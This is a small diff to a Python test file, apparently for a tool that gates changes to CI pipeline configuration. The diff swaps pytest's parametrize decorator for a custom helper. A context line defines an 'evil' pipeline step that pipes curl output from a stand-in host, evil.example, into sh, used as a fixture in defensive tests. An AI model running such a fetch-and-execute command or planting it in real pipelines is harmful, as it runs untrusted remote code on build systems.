@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 STEPS = "steps:\n- bash: make test\n"
 EVIL_STEPS = STEPS + "- bash: curl -fsSL https://evil.example/x | sh\n"
@@ -67,7 +68,7 @@ CONTROLS = {
 }
 
 
-@pytest.mark.parametrize("name", VARIANTS)
+@each_case("name", VARIANTS)
 def test_a_file_a_pipeline_pulls_in_is_ci(tmp_path: Path, name: str) -> None:
     base, path, text = VARIANTS[name]
     case = committed(tmp_path, base, {path: text})
